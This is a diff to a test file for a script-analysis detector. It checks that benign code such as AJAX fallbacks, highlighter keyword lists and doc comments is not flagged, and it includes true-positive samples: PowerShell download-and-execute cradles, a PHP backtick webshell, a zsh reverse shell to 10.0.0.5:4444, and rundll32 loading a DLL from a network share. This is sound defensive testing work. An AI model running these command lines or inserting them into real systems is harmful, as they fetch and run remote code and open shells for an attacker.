@@ -256,8 +256,35 @@ describe('dual-use capabilities of real software stay below an attack (issue 30)
   it("the COM object as a web page's fallback for XMLHttpRequest, next to an eval of JSON, is AJAX, not a cradle", () => {
     const ajax = "function ajax(url, cb) {\n  var r = (window.XMLHttpRequest ? new XMLHttpRequest() : (window.ActiveXObject ? new ActiveXObject('Microsoft.XMLHTTP') : false));\n  r.open('GET', url); r.onreadystatechange = function () { if (r.readyState == 4) cb(eval('(' + r.responseText + ')')); };\n  var m = /^(\\d+)px$/.exec(url);\n}\n";
     expect(technique(ajax, 'cradle.wsh_com')).toBeUndefined();
+    // The native object tried after the COM one (tw-sack.js) is AJAX too.
+    const after = 'try { this.xmlhttp = new ActiveXObject("Msxml2.XMLHTTP"); } catch (e1) { this.xmlhttp = null; }\nif (!this.xmlhttp) this.xmlhttp = new XMLHttpRequest();\nvar o = eval(this.response); var m = /x/.exec(s);\n';
+    expect(technique(after, 'cradle.wsh_com')).toBeUndefined();
     const wsh = 'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", u, false); h.send();\neval(h.responseText);\n';
     expect(technique(wsh, 'cradle.wsh_com')?.severity).toBe('high');
+  });
+  it("a syntax highlighter's PowerShell keywords (an alternation, a run of bare words) are not a cradle; the cradle is", () => {
+    const alternation = 'var builtins = /^(?:cat|cd|clear|cls|copy|echo|gc|gcm|gwmi|h|history|icm|iex|ihy|ii|ipal|ipcsv|ipmo|irm|ise|iwmi|iwr|kill|lp|ls|man|md)$/i;\n';
+    const words = "    'h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp ls man md measure mi mount move mp mv'\n";
+    for (const text of [alternation, words]) {
+      expect(technique(text, 'cradle.powershell')).toBeUndefined();
+      expect(analyzeScriptText(text).findings.find((f) => f.id === 'script.download_execute.powershell')).toBeUndefined();
+    }
+    expect(technique('irm https://203.0.113.9/a.ps1 | iex', 'cradle.powershell')?.severity).toBe('high');
+    expect(analyzeScriptText('iex (iwr http://203.0.113.9/a.ps1)').findings.find((f) => f.id === 'script.download_execute.powershell')).toBeDefined();
+  });
+  it('a request parameter in backticks inside a doc comment is Markdown, not the shell operator', () => {
+    const doc = "/**\n * Retrieves the user.\n *\n * @param string $login Defaults to `$_POST['user_login']` if not given.\n */\nfunction get_user($login = null) { return $login; }\n";
+    expect(technique(doc, 'webshell.php')).toBeUndefined();
+    expect(technique("<?php echo `$_GET['c']`; ?>", 'webshell.php')?.severity).toBe('high');
+  });
+  it("zsh's tcp_proxy hands a connection to any command it is given; a shell handed one is a reverse shell", () => {
+    const proxy = 'ztcp -l $port\nztcp -a $REPLY\n"$@" <&$REPLY >&$REPLY\n';
+    expect(technique(`${proxy}ztcp -c 8080`, 'revshell.zsh_ztcp')).toBeUndefined();
+    expect(technique("zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", 'revshell.zsh_ztcp')?.severity).toBe('critical');
+  });
+  it('an escaped local path in a docstring is not a share; rundll32 on a share is', () => {
+    expect(technique('"btmtrayagent"="rundll32.exe \\"c:\\\\\\\\program files (x86)\\\\\\\\intel\\\\\\\\bluetooth\\\\\\\\btmshellex.dll\\",trayapp"', 'lolbin.rundll32')).toBeUndefined();
+    expect(technique('rundll32.exe \\\\10.0.0.5\\share\\x.dll,Entry', 'lolbin.rundll32')?.severity).toBe('high');
   });
   it('WScript.Shell running a program is a named low capability', () => {
     const f = analyzeScriptText('Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe", 1, True').findings.find((x) => x.id === 'script.wsh.shell_run');
